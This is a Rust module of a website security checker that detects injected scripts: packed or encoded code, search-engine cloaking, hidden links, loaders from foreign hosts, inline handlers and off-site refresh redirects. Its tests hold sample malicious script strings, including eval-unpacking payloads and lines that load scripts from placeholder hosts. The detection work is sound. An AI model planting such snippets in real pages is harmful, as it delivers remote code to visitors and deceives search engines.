//! Scripts that write links, hide what they do or treat search engines apart; handlers in attributes; redirects.
//!
//! Ordinary scripts write to the page too (the state's own badge does), so what counts is what is written and for
//! whom. A script is first made plain: escapes are resolved, character codes and joined pieces put together. Start at
//! [`of_page`].

use super::super::html::Document;
use super::super::rule::{Family, Finding, Rule};
use super::super::subject::Page;
use super::hosts::{self, Hosts, host_of};
use crate::diagnostic::{FilePath, Place, Text};

pub const SUSPICIOUS_SCRIPT: Rule =
    Rule::error(Family::Injection, "suspicious-script", "可疑的脚本", "a suspicious script");
pub const WRITING_SCRIPT: Rule = Rule::warning(
    Family::Injection,
    "writing-script",
    "用 eval 或 document.write 的脚本",
    "a script that uses eval or document.write",
);
pub const INLINE_HANDLER: Rule =
    Rule::warning(Family::Injection, "inline-handler", "写在标签里的脚本", "a script in an attribute");
pub const FOREIGN_REFRESH: Rule =
    Rule::error(Family::Injection, "foreign-refresh", "自动跳转到外站", "a redirect to another site");

/// Scripts, handlers and redirects of any page.
pub fn of_page(page: &Page<'_>, hosts: &Hosts) -> Vec<Finding> {
    let mut findings: Vec<Finding> = Vec::new();
    for text in scripts(page.document) {
        findings.extend(
            suspicion(&text.text, hosts).map(|why| suspicious(page.place(&first_line(page.html, &text.span)), &why)),
        );
    }
    for attribute in page.document.elements.iter().flat_map(|element| &element.attributes) {
        if is_code(&attribute.name, &attribute.value) {
            let why = suspicion(&attribute.value, hosts);
            findings.extend(why.map(|why| suspicious(page.place(&attribute.span), &why)));
        }
    }
    findings.extend(refreshes(page, hosts));
    findings
}

/// Handlers and `javascript:` addresses; a theme of ours has its scripts in files.
pub fn handlers(page: &Page<'_>) -> Vec<Finding> {
    let attributes = page.document.elements.iter().flat_map(|element| &element.attributes);
    let written = attributes.filter(|it| is_code(&it.name, &it.value));
    written.map(|it| inline_handler(page.place(&it.span), &it.name, &it.value)).collect()
}

/// Scripts of a page of ours that write to it.
pub fn writing_scripts(page: &Page<'_>) -> Vec<Finding> {
    scripts(page.document).filter_map(|text| writing(page.file, &text.text, text.span.start)).collect()
}

/// A file of scripts.
pub fn of_script_file(file: &FilePath, text: &str, hosts: &Hosts) -> Vec<Finding> {
    match suspicion(text, hosts) {
        Some(why) => vec![suspicious(Place::file(file), &why)],
        None => writing(file, text, 0).into_iter().collect(),
    }
}

/// The texts of scripts that run; JSON-LD does not.
fn scripts<'d>(document: &'d Document<'d>) -> impl Iterator<Item = &'d super::super::html::TextNode<'d>> {
    document.texts.iter().filter(|text| {
        let parent = document.element(text.parent);
        let runs = |kind: &str| kind.is_empty() || kind == "module" || kind.to_ascii_lowercase().contains("javascript");
        parent.name == "script" && runs(parent.attribute("type").unwrap_or_default())
    })
}

fn is_code(name: &str, value: &str) -> bool {
    let is_handler = name.len() > 4 && name.starts_with("on") && name.bytes().all(|byte| byte.is_ascii_lowercase());
    is_handler || is_script_address(value)
}

/// `javascript:void(0)` and an empty one do nothing.
fn is_script_address(address: &str) -> bool {
    let address = address.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
    if !address.starts_with(['j', 'J', 'v', 'V']) {
        return false;
    }
    let plain = address.chars().take(24).filter(|c| !c.is_whitespace() && !c.is_control());
    let address = plain.collect::<String>().to_ascii_lowercase();
    let Some(code) = address.strip_prefix("javascript:").or_else(|| address.strip_prefix("vbscript:")) else {
        return false;
    };
    !matches!(code.trim_end_matches(';'), "" | "void(0)" | "void0")
}

/// A script's first line that holds anything: a message need not show all of it.
fn first_line(html: &str, span: &std::ops::Range<usize>) -> std::ops::Range<usize> {
    let text = html.get(span.clone()).unwrap_or_default();
    let start = span.start + text.len() - text.trim_start().len();
    start..start + text.trim_start().lines().next().unwrap_or_default().trim_end().len()
}

/// Why a script is suspicious.
fn suspicion(script: &str, hosts: &Hosts) -> Option<Text> {
    const SIGNS: [&str; 8] =
        ["eval", "document", "unescape", "fromCharCode", "atob", "userAgent", "referrer", "createElement"];
    // Escapes may hide the words themselves.
    if !script.contains("\\x") && !script.contains("\\u") && !SIGNS.iter().any(|sign| script.contains(sign)) {
        return None;
    }
    // `document["write"]` is another way to say `document.write`.
    let plain = plain(script).to_lowercase().replace("[\"", ".").replace("\"]", "");
    is_packed(script, &plain)
        .or_else(|| is_cloaked(&plain))
        .or_else(|| writes_elsewhere(&plain, hosts))
        .or_else(|| is_escaped(script))
}

/// Code that is unpacked and run.
fn is_packed(script: &str, plain: &str) -> Option<Text> {
    let compact: String = plain.chars().filter(|c| !c.is_whitespace()).collect();
    let unpacks = ["unescape(", "atob(", "fromcharcode"].iter().any(|word| compact.contains(word))
        || script.contains("\\x") && compact.contains("eval(");
    let runs = ["eval(", "newfunction(", "window['eval']"].iter().any(|word| compact.contains(word));
    let is_packer = compact.contains("eval(function(p,a,c,k,e");
    (is_packer || runs && unpacks).then(|| Text::new("先解码再执行，看不出做什么", "it decodes code and runs it"))
}

/// Another page for search engines, or for those who come from them.
fn is_cloaked(plain: &str) -> Option<Text> {
    let acts = ["location", "document.write", "createelement", "innerhtml"].iter().any(|word| plain.contains(word));
    // The application of a search engine is a browser like others.
    let asked = plain.replace("baiduboxapp", "");
    let asks_robots = asked.contains("useragent")
        && ["spider", "googlebot", "bingbot", "baidu|", "|baidu", "\"baidu\"", "'baidu'"]
            .iter()
            .any(|word| asked.contains(word));
    let engines = ["baidu", "sogou", "so.com", "google", "bing", "sm.cn", "toutiao"];
    let asks_origin = asked.contains("referrer") && {
        let named = engines.iter().filter(|engine| asked.contains(**engine)).count();
        named >= 2 || named == 1 && asked.contains("location")
    };
    (acts && (asks_robots || asks_origin))
        .then(|| Text::new("对搜索引擎和普通读者做不同的事", "it treats search engines and readers differently"))
}

/// Links, frames or scripts of unknown hosts, written into the page; or a redirect to a host like those of spam.
fn writes_elsewhere(plain: &str, hosts: &Hosts) -> Option<Text> {
    let writes = ["document.write", "innerhtml", "insertadjacenthtml", ".append("].iter().any(|it| plain.contains(it));
    let tags = ["<script", "<iframe", "<a ", "display:none", "<marquee"].iter().any(|tag| plain.contains(tag));
    let creates = plain.contains("createelement") || plain.contains("location");
    let mut named = addresses(plain).filter_map(host_of).filter(|host| !hosts.is_known(host));
    let host = named.find(|host| writes && tags || creates && hosts::suspicion(host).is_some())?;
    Some(Text::new(format!("往网页里写入 {host} 的内容"), format!("it writes content of {host} into the page")))
}

/// Long runs of escapes: nobody writes so by hand.
fn is_escaped(script: &str) -> Option<Text> {
    let codes = script.matches("\\x").count().max(character_codes(script).map_or(0, |codes| codes.len()));
    (codes >= 16).then(|| {
        Text::new(format!("{codes} 个字符写成编码，看不出做什么"), format!("{codes} of its characters are encoded"))
    })
}

/// Addresses with a host: what follows `//` between quotes.
fn addresses(text: &str) -> impl Iterator<Item = &str> {
    text.match_indices("//").filter_map(move |(at, _)| {
        let end = text[at + 2..].find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':')));
        let host = &text[at..end.map_or(text.len(), |length| at + 2 + length)];
        let before = text[..at].chars().next_back();
        (matches!(before, Some(':' | '"' | '\'' | '=')) && host.contains('.')).then_some(host)
    })
}

/// The script with escapes resolved, character codes as text and joined pieces in one.
fn plain(script: &str) -> String {
    let mut plain = String::with_capacity(script.len());
    let mut rest = script;
    while let Some(at) = rest.find(['\\', '%']) {
        plain.push_str(&rest[..at]);
        rest = &rest[at..];
        let (c, length) = escape(rest);
        plain.push(c);
        rest = &rest[length..];
    }
    plain.push_str(rest);
    if let Some(codes) = character_codes(script) {
        plain.push('\n');
        plain.extend(codes.into_iter().filter_map(char::from_u32));
    }
    ["'+'", "\"+\"", "' + '", "\" + \""].into_iter().fold(plain, |text, joint| text.replace(joint, ""))
}

/// The character that an escape at the beginning stands for, and how many bytes it takes.
fn escape(text: &str) -> (char, usize) {
    let hexadecimal = |start: usize, end: usize| {
        let code = u32::from_str_radix(text.get(start..end)?, 16).ok()?;
        char::from_u32(code).map(|c| (c, end))
    };
    let found = match text.as_bytes().get(..2) {
        Some(b"\\x") => hexadecimal(2, 4),
        Some(b"\\u") => hexadecimal(2, 6),
        Some([b'%', _]) => hexadecimal(1, 3),
        Some(b"\\/") => Some(('/', 2)),
        _ => None,
    };
    found.or_else(|| Some((text.chars().next()?, text.chars().next()?.len_utf8()))).unwrap_or_default()
}

/// The numbers of `fromCharCode(…)`, or of a list of numbers that goes into it.
fn character_codes(script: &str) -> Option<Vec<u32>> {
    let at = script.find("fromCharCode")?;
    let inner = script[at..].split_once('(')?.1.split(')').next()?;
    let numbers: Vec<u32> = inner.split(',').filter_map(|number| number.trim().parse().ok()).collect();
    (numbers.len() >= 4).then_some(numbers)
}

fn suspicious(place: Place, why: &Text) -> Finding {
    let message = Text::new(format!("可疑的脚本：{}", why.zh), format!("a suspicious script: {}", why.en));
    SUSPICIOUS_SCRIPT.finds(place, "", message).help(
        "不知道来历就删去，再查是谁、从哪里改的；请技术人员一起看",
        "remove it unless you know where it comes from, and find out who put it there",
    )
}

fn writing(file: &FilePath, script: &str, start: usize) -> Option<Finding> {
    let calls = ["document.write(", "document.writeln(", "eval("];
    let (at, call) = calls.iter().filter_map(|call| Some((find_call(script, call)?, *call))).min()?;
    let name = call.trim_end_matches('(');
    let message = Text::new(
        format!("脚本用了 {name}，最容易被人利用"),
        format!("the script uses {name}, which attackers like most"),
    );
    let place = Place::bytes(file, start + at..start + at + name.len());
    Some(
        WRITING_SCRIPT
            .finds(place, name, message)
            .help("请技术人员改用 textContent、append 等写法", "use textContent, append and the like instead"),
    )
}

/// Where a function is called that is not the end of another one's name (`medieval(`).
fn find_call(script: &str, call: &str) -> Option<usize> {
    let is_name = |c: char| c.is_alphanumeric() || matches!(c, '_' | '$' | '.');
    script.match_indices(call).map(|(at, _)| at).find(|at| !script[..*at].ends_with(is_name))
}

fn inline_handler(place: Place, name: &str, value: &str) -> Finding {
    let message =
        Text::new(format!("标签的 {name} 里写了脚本"), format!("the attribute {name} of a tag holds a script"));
    INLINE_HANDLER.finds(place, value, message).help(
        "脚本应当放在主题的 assets/js 里；不认识的多半是别人塞进来的",
        "scripts belong in the theme's assets/js; one that nobody knows was put there by somebody else",
    )
}

/// `<meta http-equiv=refresh>` to another host.
fn refreshes(page: &Page<'_>, hosts: &Hosts) -> impl Iterator<Item = Finding> {
    page.document.named("meta").filter_map(|(_, tag)| {
        let is_refresh = tag.attribute("http-equiv").is_some_and(|it| it.eq_ignore_ascii_case("refresh"));
        let content = tag.find("content").filter(|_| is_refresh)?;
        // The seconds, a separator, and the address, with or without its name (HTML 4.2.5.3, 17).
        let rest = content.value.trim_start_matches(|c: char| c.is_ascii_digit() || c == '.' || c.is_whitespace());
        let rest = rest.trim_start_matches(|c: char| matches!(c, ';' | ',') || c.is_whitespace());
        let is_named = rest.get(..3).is_some_and(|name| name.eq_ignore_ascii_case("url"));
        let target = rest.get(3..).filter(|_| is_named).and_then(|rest| rest.trim_start().strip_prefix('='));
        let target = target.unwrap_or(rest).trim().trim_matches(['"', '\'']);
        let host = host_of(target).filter(|host| !hosts.is_known(host))?;
        let message =
            Text::new(format!("打开网页就自动跳到 {host}"), format!("the page sends readers on to {host} by itself"));
        Some(FOREIGN_REFRESH.finds(page.place(&content.span), target, message).help(
            "不是本单位设的就立即删去；确实要跳转的，把域名写进 check.allowed_hosts（允许的网站）",
            "remove it at once unless your office set it; else add the host to check.allowed_hosts",
        ))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_suspicious(script: &str) -> bool {
        suspicion(script, &Hosts::of_page(&Document::default())).is_some()
    }

    #[test]
    fn scripts_of_break_ins_are_suspicious() {
        let found = [
            r#"eval(function(p,a,c,k,e,d){e=function(c){return c}}('0 1',2,2,'a|b'.split('|')))"#,
            r#"eval(unescape("%64%6f%63"))"#,
            r#"eval(String.fromCharCode(100,111,99,117,109,101,110,116))"#,
            r#"new Function(atob("ZG9jdW1lbnQ="))()"#,
            r#"window["\x64\x6f\x63\x75\x6d\x65\x6e\x74"]["\x77\x72\x69\x74\x65"]("<script src=//a.example.net/x.js></script>")"#,
            r#"document.write('<scr'+'ipt src="https://js.example.net/t.js"></scr'+'ipt>')"#,
            r#"document.write("<div style='display:none'><a href='http://www.example.net/'>x</a></div>")"#,
            r#"document.write(unescape("%3Cscript src='http://js.example.net/a.js'%3E%3C/script%3E"))"#,
            r#"var s=document.createElement("script");s.src="//88.example.top/a.js";document.head.appendChild(s)"#,
            r#"if(/baiduspider|sogou/i.test(navigator.userAgent)){document.write("x")}else{location.href="/b"}"#,
            r#"if(document.referrer.indexOf("baidu.com")>0){location.href="https://www.example.net/"}"#,
            r#"var r=document.referrer;if(r.match(/sogou|so\.com|baidu/)){document.write('<p>')}"#,
            r#"location.replace("https://www.js5500.com/?from=1");document.title"#,
            r#"var _0x1=["\x68\x74\x74\x70\x3a\x2f\x2f\x77\x77\x77\x2e\x61\x2e\x62\x63\x64\x65\x66"]"#,
        ];
        for script in found {
            assert!(is_suspicious(script), "{script}");
        }
    }

    #[test]
    fn ordinary_scripts_are_not() {
        let clean = [
            r#"document.write(unescape("%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/10/000/0000/00000000/CA100000000000000000000.js' type='text/javascript'%3E%3C/script%3E"));"#,
            r#"var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?0";document.head.appendChild(hm)})();"#,
            r#"if(/Android|iPhone|iPod|Mobile/i.test(navigator.userAgent)){window.location.href="/mobile/"}"#,
            r#"var isBaidu=/baiduboxapp/i.test(navigator.userAgent);if(isBaidu){document.write("<p>")}"#,
            r#"document.write(new Date().getFullYear())"#,
            r#"document.write("<script src='/js/jquery.js'></script>")"#,
            r#"var data=eval("("+text+")")"#,
            r##"$("#tab li").hover(function(){$(this).addClass("on")})"##,
            r#"document.referrer&&fetch("/count?from="+encodeURIComponent(document.referrer))"#,
            r#"history.back()"#,
            r#"var re=/[\u4e00-\u9fa5]/;document.title="\u6587\u660e"; "#,
            "",
        ];
        for script in clean {
            assert!(!is_suspicious(script), "{script}");
        }
    }

    #[test]
    fn a_script_is_made_plain() {
        let check = |script, expected| assert_eq!(plain(script), expected, "{script}");
        check(r"\x61\u0062%63", "abc");
        check(r#"'<scr'+'ipt>'"#, "'<script>'");
        check(r"a\nb 100% %zz \", r"a\nb 100% %zz \");
        check("fromCharCode(97,98,99,100)", "fromCharCode(97,98,99,100)\nabcd");
    }

    #[test]
    fn code_in_attributes_is_known() {
        let check = |name, value, expected| assert_eq!(is_code(name, value), expected, "{name}={value}");
        check("onerror", "x()", true);
        check("href", "javascript:alert(1)", true);
        check("href", " java\nscript:alert(1)", true);
        check("href", "javascript:void(0);", false);
        check("href", "javascript:;", false);
        check("href", "/online", false);
        check("on", "x", false);
    }

    #[test]
    fn a_call_is_not_the_end_of_another_name() {
        assert_eq!(find_call("a.b();eval(x)", "eval("), Some(6));
        assert_eq!(find_call("medieval(x); obj.eval(x)", "eval("), None);
    }
}
